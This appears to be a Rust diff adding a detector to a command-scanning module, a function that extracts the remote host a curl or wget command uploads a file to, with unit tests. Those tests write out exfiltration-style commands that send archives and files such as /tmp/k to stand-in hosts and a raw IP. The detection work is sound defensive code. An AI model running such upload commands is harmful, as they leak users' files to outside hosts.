@@ -140,6 +140,30 @@ pub(crate) fn has_raw_ip_url(s: &str) -> bool {
     false
 }
 
+/// The literal remote host a command uploads a local file to: `curl -F "f=@path"`,
+/// `curl -T path`, `curl --data-binary @path`, `wget --post-file=path`. Takes the command
+/// as written (curl's `-F` form upload and `-f` fail flag differ only in case). None when
+/// the command uploads nothing, or the host is computed, loopback or not a host name.
+pub(crate) fn file_upload_host(cmd: &str) -> Option<String> {
+    let has = |s: &str| cmd.contains(s);
+    let curl_upload = has("curl")
+        && ((has(" -F") || has("--form")) && has("=@")
+            || has(" -T ")
+            || has("--upload-file")
+            || ["-d @", "-d \"@", "--data @", "--data=@", "--data-binary @", "--data-binary=@", "--data-binary \"@"].iter().any(|f| has(f)));
+    let wget_upload = has("wget") && has("--post-file");
+    if !(curl_upload || wget_upload) {
+        return None;
+    }
+    let start = ["https://", "http://", "ftp://"].iter().filter_map(|s| cmd.find(s).map(|i| i + s.len())).min()?;
+    let rest = &cmd[start..];
+    let host: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')).collect();
+    let host = host.to_ascii_lowercase();
+    let next = rest[host.len()..].chars().next();
+    let remote = host.contains('.') && !host.starts_with("127.") && !host.starts_with("0.") && !host.ends_with(".local") && !host.ends_with('.');
+    (remote && !matches!(next, Some('…' | '$' | '{' | '%'))).then_some(host)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -157,5 +181,24 @@ mod tests {
         assert_eq!(suspicious_tokens("powershell -windowstyle hidden -c x"), Some("PowerShell"));
         assert!(has_raw_ip_url("pip install http://10.1.2.3/x.tar.gz"));
         assert!(!has_raw_ip_url("pip install http://127.0.0.1/x"));
+    }
+
+    #[test]
+    fn finds_the_host_a_file_is_uploaded_to() {
+        let up = |c: &str| file_upload_host(c);
+        assert_eq!(up("curl -k -F \"file=@/Users/…/tmp.zip\" \"https://203.0.113.7/api/upload\" > /dev/null").as_deref(), Some("203.0.113.7"));
+        assert_eq!(up("curl --upload-file dump.tgz https://drop.example.org/x").as_deref(), Some("drop.example.org"));
+        assert_eq!(up("curl -T a.tar ftp://files.example.net/in/").as_deref(), Some("files.example.net"));
+        assert_eq!(up("curl -s --data-binary @/tmp/k https://h.example.com/").as_deref(), Some("h.example.com"));
+        assert_eq!(up("wget --post-file=/tmp/k http://h.example.com/p").as_deref(), Some("h.example.com"));
+        // downloads, `-f` (fail) and form fields without a file are not uploads
+        assert_eq!(up("curl -fsSL https://get.example.com/install.sh -o i.sh"), None);
+        assert_eq!(up("curl -F name=value https://h.example.com/form"), None);
+        assert_eq!(up("wget https://h.example.com/a.tgz"), None);
+        // computed or local destinations are not fixed by the package
+        assert_eq!(up("curl -F file=@out.zip \"https://…/upload\""), None);
+        assert_eq!(up("curl -T out.zip http://127.0.0.1:8080/"), None);
+        assert_eq!(up("curl -T out.zip http://$HOST/"), None);
+        assert_eq!(up("curl -T out.zip"), None);
     }
 }
